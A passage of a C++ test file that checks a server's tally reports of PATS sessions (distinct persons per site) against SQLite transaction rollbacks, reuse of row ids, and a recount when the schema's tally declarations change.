  CHECK(total(f.report("pats-individual-by-site", 2026), "persons") == 1);
  {
    sqlite::transaction tx(f.db());
    f.book().update({999, "no_such_type", nullptr, &fields});
    tx.commit();
  }
  f.check_all(2026);
}

TEST_CASE("the tally rolls back with the caller's transaction", "[server][tally]") {
  tally_fixture f;
  f.put("a", "pats_session", pats("2026-03-01", "vic", "individual", "P-0001H"));
  {
    sqlite::transaction tx(f.db());
    const auto fields =
        typed(f.definitions(), "pats_session", pats("2026-03-01", "vic", "individual", "P-0002F"));
    f.book().update({50, "pats_session", nullptr, &fields});
    CHECK(total(f.report("pats-individual-by-site", 2026), "persons") == 2);
  }
  CHECK(total(f.report("pats-individual-by-site", 2026), "persons") == 1);
  f.check_all(2026);
}

TEST_CASE("a label added in a transaction that rolls back is not kept for its cell",
          "[server][tally]") {
  tally_fixture f;
  f.put("a", "pats_session", pats("2026-03-01", "vic", "individual", "P-0001H"));
  {
    sqlite::transaction tx(f.db());  // labels "logatec/" for a path, then rolled back
    const auto fields = typed(f.definitions(), "pats_session",
                              pats("2026-03-01", "logatec", "individual", "P-0002F"));
    f.book().update({50, "pats_session", nullptr, &fields});
  }
  // SQLite gives the id again, now to "postojna/"; the person's row names it.
  f.put("b", "pats_session", pats("2026-03-02", "postojna", "individual", "P-0002F"));
  f.put("c", "pats_session", pats("2026-03-03", "logatec", "individual", "P-0002F"));
  f.remove("b");
  const auto r = f.report("pats-individual-by-site", 2026);
  CHECK(cell(r, {"logatec"}) == values{{"persons", 1}});
  CHECK(cell(r, {"postojna"}).empty());
  f.check_all(2026);
}

TEST_CASE("a change of tally declarations asks for a replay", "[server][tally]") {
  tally_fixture f;
  CHECK(!f.book().needs_replay());
  f.put("a", "pats_session", pats("2026-03-01", "vic", "individual", "P-0001H"));

  // The same store opened with a schema whose tallies differ.
  std::string doc(shipped_schema()->source());
  const std::string measure =
      R"({"id": "persons", "title": "Persons informed", "distinct": "person"})";
  const auto at = doc.find(measure);
  REQUIRE(at != std::string::npos);
  doc.replace(at, measure.size(), measure + R"(, {"id": "sessions", "count": true})");
  auto changed = schema::parse(doc);
  REQUIRE(changed.ok());
  server::tally_book book(f.db(), changed.value(), [] { return from_civil(2026, 6, 15); });
  book_store store(book, f.reader());
  const server::tally_reports reports(store, changed.value());
  CHECK(book.needs_replay());
  // Until the replay, its reports refuse rather than show stale figures.
  CHECK(reports.json("pats-individual-by-site", 2026, std::nullopt).err().code == errc::store);
  CHECK(reports.csv("pats-individual-by-site", 2026, std::nullopt).err().code == errc::store);
  const auto in_transaction = [&](const auto& step) {
    sqlite::transaction tx(f.db());
    step();
    tx.commit();
  };
  in_transaction([&] { book.reset(); });
  CHECK(!book.needs_replay());
  // A recount is under way: the reports say so, and a change to a record it
  // has not passed is left to it.
  CHECK(book.recounted_to() == 0);
  CHECK(reports.json("pats-individual-by-site", 2026, std::nullopt).err().code ==
        errc::unavailable);
  const auto fields =
      typed(*changed.value(), "pats_session", pats("2026-03-01", "vic", "individual", "P-0001H"));
  in_transaction([&] { book.update({1, "pats_session", nullptr, &fields}); });
  in_transaction([&] {
    book.recount_to(1);
    book.update({1, "pats_session", nullptr, &fields});
    book.end_recount();
  });
  CHECK_FALSE(book.recounted_to());
  const auto r =
      boost::json::parse(reports.json("pats-individual-by-site", 2026, std::nullopt).value())
          .as_object();
  CHECK(cell(r, {"vic"}) == values{{"persons", 1}, {"sessions", 1}});
  // The original book now sees other declarations.
  CHECK(f.book().needs_replay());
}

}  // namespace haven::test
